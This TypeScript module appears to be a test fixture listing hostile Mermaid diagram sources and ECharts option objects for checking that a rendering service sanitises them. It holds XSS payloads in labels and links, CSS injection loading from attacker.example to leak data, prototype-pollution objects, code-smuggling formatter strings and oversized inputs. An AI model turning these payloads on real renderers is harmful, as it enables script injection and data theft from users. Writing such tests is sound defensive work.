// Owns attacks that are written as a diagram or a chart.
import { exhaustingCharts, exhaustingDiagrams } from './exhaustion.ts'
import { leaks } from './schemes.ts'

const mermaid: readonly string[] = [
  'graph TD\n  A["<img src=x onerror=attacked()>"] --> B',
  'graph TD\n  A --> B\n  click A "javascript:attacked()"',
  'graph TD\n  A --> B\n  click A href "javascript:attacked()" _top',
  'graph TD\n  A --> B\n  click A call attacked()',
  'graph TD\n  A --> B\n  click A attacked "tooltip <img src=x onerror=attacked()>"',
  '%%{init: {"securityLevel": "loose"}}%%\ngraph TD\n  A["<svg onload=attacked()>"] --> B',
  '%%{init: {"htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  A["<iframe srcdoc=\'<script>top.attacked()</script>\'>"]',
  '%%{init: {"themeCSS": "@import url(https://attacker.example/a.css); *{background:url(https://attacker.example/leak.png)}"}}%%\ngraph TD\n  A --> B',
  '%%{init: {"themeVariables": {"fontFamily": "x; } @import url(https://attacker.example/a.css); a {"}}}%%\ngraph TD\n  A --> B',
  '%%{init: {"fontFamily": "</style><script>attacked()</script>"}}%%\ngraph TD\n  A --> B',
  '%%{init: {"secure": [], "securityLevel": "antiscript", "startOnLoad": true}}%%\ngraph TD\n  A --> B',
  '%%{init: {"__proto__": {"securityLevel": "loose"}}}%%\ngraph TD\n  A["<b onclick=attacked()>x</b>"]',
  '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\n  A["<img src=x onerror=attacked()>"]',
  '---\ntitle: "<img src=x onerror=attacked()>"\n---\ngraph TD\n  A --> B',
  'graph TD\n  A[fa:fa-ban] --> B["`<img src=x onerror=attacked()>`"]',
  'graph TD\n  A@{ img: "https://attacker.example/leak.png", label: "x", w: 60, h: 60 }',
  'graph TD\n  A@{ icon: "<script>attacked()</script>" }',
  'graph TD\n  A["$$\\href{javascript:attacked()}{x}$$"]',
  'graph TD\n  classDef x fill:url(https://attacker.example/leak.png)\n  A:::x',
  'graph TD\n  A --> B\n  style A fill:#fff,background:url(https://attacker.example/leak.png)',
  'sequenceDiagram\n  participant A as <img src=x onerror=attacked()>\n  A->>A: <script>attacked()</script>',
  'sequenceDiagram\n  participant A\n  link A: x @ javascript:attacked()',
  'sequenceDiagram\n  participant A\n  links A: {"x": "javascript:attacked()", "y": "https://attacker.example"}',
  'sequenceDiagram\n  participant A\n  properties A: {"class": "\\" onload=\\"attacked()"}',
  'classDiagram\n  class A\n  link A "javascript:attacked()" "x"',
  'classDiagram\n  class A\n  callback A "attacked" "x"\n  class `<img src=x onerror=attacked()>`',
  'stateDiagram-v2\n  s1: <img src=x onerror=attacked()>\n  [*] --> s1',
  'gantt\n  title <img src=x onerror=attacked()>\n  section x\n  a :a1, 2024-01-01, 1d\n  click a1 href "javascript:attacked()"',
  'pie title <svg onload=attacked()>\n  "<img src=x onerror=attacked()>" : 1',
  'mindmap\n  root((<img src=x onerror=attacked()>))\n    ::icon(x" onload="attacked())',
  'timeline\n  title <img src=x onerror=attacked()>\n  2024 : <script>attacked()</script>',
  'journey\n  title <img src=x onerror=attacked()>\n  section x\n    a: 5: <svg onload=attacked()>',
  'erDiagram\n  A ||--o{ B : "<img src=x onerror=attacked()>"',
  'gitGraph\n  commit id: "<img src=x onerror=attacked()>" tag: "<svg onload=attacked()>"',
  'quadrantChart\n  title <img src=x onerror=attacked()>\n  "<svg onload=attacked()>": [0.3, 0.6]',
  'C4Context\n  title x\n  Person(a, "<img src=x onerror=attacked()>", "y", "javascript:attacked()")\n  UpdateElementStyle(a, $bgColor="url(https://attacker.example/leak.png)")',
  'architecture-beta\n  service a(cloud)["<img src=x onerror=attacked()>"]',
  'block-beta\n  a["<img src=x onerror=attacked()>"]',
  'requirementDiagram\n  requirement x {\n    id: 1\n    text: "<img src=x onerror=attacked()>"\n  }',
  'graph TD\n' + Array.from({ length: 700 }, (_, index) => `  A${index} --> A${index + 1}`).join('\n'),
  'graph TD\n  A["' + 'x'.repeat(60_000) + '"]',
  'not a diagram <img src=x onerror=attacked()>',
  'xychart-beta\n  title "<img src=x onerror=attacked()>"\n  x-axis ["<svg onload=attacked()>"]\n  bar [1]',
  'sankey-beta\n\n<img src=x onerror=attacked()>,<svg onload=attacked()>,1',
  'packet-beta\n  0-15: "<img src=x onerror=attacked()>"',
  'kanban\n  a[<img src=x onerror=attacked()>]\n    b[<svg onload=attacked()>]@{ ticket: "javascript:attacked()" }',
  '---\nconfig:\n  kanban:\n    ticketBaseUrl: "javascript:attacked()//#TICKET#"\n---\nkanban\n  a[x]\n    b[y]@{ ticket: 1 }',
  'radar-beta\n  axis a["<img src=x onerror=attacked()>"], b["x"], c["y"]\n  curve d["<svg onload=attacked()>"]{1, 2, 3}',
  'treemap-beta\n"<img src=x onerror=attacked()>"\n  "<svg onload=attacked()>": 1',
  'graph TD\n  A["`![x](https://attacker.example/leak.png) [y](javascript:attacked())`"]',
  'graph TD\n  accTitle: <img src=x onerror=attacked()>\n  accDescr { </desc><script>attacked()</script> }\n  A --> B',
  'graph TD\n  A --> B\n  linkStyle 0 stroke:url(https://attacker.example/leak.svg#a),filter:url(https://attacker.example/leak.svg#b)',
  'graph TD\n  classDef x fill:u\\72l(https://attacker.example/leak.png),cursor:url(https://attacker.example/leak.png)\n  A:::x',
  '%%{init: {"flowchart": {"htmlLabels": true}, "class": {"htmlLabels": true}}}%%\ngraph TD\n  A["<img src=x onerror=attacked()>"]',
  '%%{init: {"themeVariables": {"primaryColor": "#fff;} *{background:url(https://attacker.example/leak.png)} a{"}}}%%\ngraph TD\n  A --> B',
  '---\nconfig:\n  themeVariables:\n    fontFamily: "x;} @font-face{font-family:y;src:url(https://attacker.example/a.woff)} a{"\n---\ngraph TD\n  A --> B',
  ...exhaustingDiagrams,
]

const [leak = ''] = leaks
const charts: readonly unknown[] = [
  { title: { text: '<img src=x onerror=attacked()>', link: 'javascript:attacked()', sublink: leak } },
  { tooltip: { formatter: '<img src=x onerror=attacked()>', extraCssText: `background:url(${leak})` } },
  { tooltip: { show: true, trigger: 'axis', alwaysShowContent: true, formatter: 'function(){attacked()}' } },
  { graphic: [{ type: 'image', style: { image: leak, width: 50, height: 50 } }] },
  { graphic: [{ type: 'text', style: { text: 'x' }, onclick: 'attacked()' }] },
  { backgroundColor: { image: leak, repeat: 'repeat' } },
  { series: [{ type: 'pie', data: [{ name: '<svg onload=attacked()>', value: 1 }] }] },
  { series: [{ type: 'line', symbol: `image://${leak}`, data: [1, 2] }], xAxis: {}, yAxis: {} },
  {
    series: [
      {
        type: 'bar',
        label: { show: true, formatter: '{b|x}', rich: { b: { backgroundColor: { image: leak } } } },
        data: [1],
      },
    ],
    xAxis: {},
    yAxis: {},
  },
  {
    series: [
      { type: 'treemap', data: [{ name: 'x', value: 1, link: 'javascript:attacked()', target: '_top' }] },
    ],
  },
  { series: [{ type: 'sunburst', data: [{ name: 'x', value: 1, link: 'javascript:attacked()' }] }] },
  { series: [{ type: 'graph', data: [{ name: 'x', symbol: `image://${leak}` }] }] },
  { series: [{ type: 'custom', renderItem: 'attacked()', data: [1] }] },
  { series: [{ type: 'map', map: '<img src=x onerror=attacked()>' }] },
  {
    toolbox: {
      show: true,
      feature: {
        dataView: { show: true, optionToContent: 'attacked()' },
        saveAsImage: {},
        myTool: { onclick: 'attacked()', icon: `image://${leak}` },
      },
    },
  },
  { legend: { data: [{ name: '<img src=x onerror=attacked()>', icon: `image://${leak}` }] } },
  { dataset: { source: leak } },
  {
    xAxis: { name: '<img src=x onerror=attacked()>', data: ['<script>attacked()</script>'] },
    yAxis: {},
    series: [{ type: 'bar', data: [1] }],
  },
  { aria: { enabled: true, label: { description: '"><img src=x onerror=attacked()>' } } },
  { timeline: { controlStyle: { playIcon: `image://${leak}` } }, options: [] },
  { __proto__: null, constructor: { prototype: { attacked: 1 } }, series: [] },
  { textStyle: { fontFamily: 'x;background:url(https://attacker.example/leak.png)' }, series: [] },
  { media: [{ query: {}, option: { graphic: [{ type: 'image', style: { image: leak } }] } }] },
  { baseOption: { title: { link: leak } }, options: [{ backgroundColor: { image: leak } }] },
  {
    aria: { enabled: true, decal: { show: true, decals: { symbol: `image://${leak}` } } },
    series: [{ type: 'pie', data: [1], itemStyle: { decal: { symbol: `image://${leak}` } } }],
  },
  {
    xAxis: {
      data: [{ value: '<img src=x onerror=attacked()>', textStyle: { backgroundColor: { image: leak } } }],
      axisLabel: { rich: { a: { backgroundColor: { image: leak } } }, formatter: '{a|{value}}' },
      axisPointer: { show: true, handle: { show: true, icon: `image://${leak}` } },
    },
    yAxis: {},
    dataZoom: [{ type: 'slider', handleIcon: `image://${leak}` }],
    series: [
      { type: 'pictorialBar', symbol: `image://${leak}`, data: [{ value: 1, symbol: `image://${leak}` }] },
    ],
  },
  {
    xAxis: {},
    yAxis: {},
    series: [
      {
        type: 'scatter',
        data: [[1, 1]],
        markPoint: { symbol: `image://${leak}`, data: [{ type: 'max', symbol: `\u200bimage://${leak}` }] },
      },
    ],
  },
  {
    geo: { map: 'china' },
    series: [
      { type: 'lines', coordinateSystem: 'geo', effect: { show: true, symbol: `image://${leak}` }, data: [] },
    ],
  },
  {
    radar: { indicator: [{ name: '<img src=x onerror=attacked()>' }] },
    series: [{ type: 'radar', data: [[1]] }],
  },
  {
    series: [
      {
        type: 'sankey',
        data: [{ name: '<img src=x onerror=attacked()>' }, { name: 'b' }],
        links: [{ source: 0, target: 1, value: 1 }],
      },
    ],
  },
  {
    series: [
      {
        type: 'tree',
        data: [{ name: '<img src=x onerror=attacked()>', children: [{ name: 'x', link: leak }] }],
      },
    ],
  },
  {
    dataset: {
      source: [
        ['x', 'constructor'],
        ['__proto__', 1],
      ],
      transform: { type: 'attacked:x' },
    },
    series: [{ type: 'pie' }],
  },
  ...exhaustingCharts,
  'function(){attacked()}',
  '});attacked();({',
]

/** Sources of mermaid diagrams. */
export const mermaidAttacks = mermaid
/** Options of charts, as the text in which the service sends them. */
export const chartAttacks: readonly string[] = charts.map((chart) =>
  typeof chart === 'string' ? chart : JSON.stringify(chart),
)
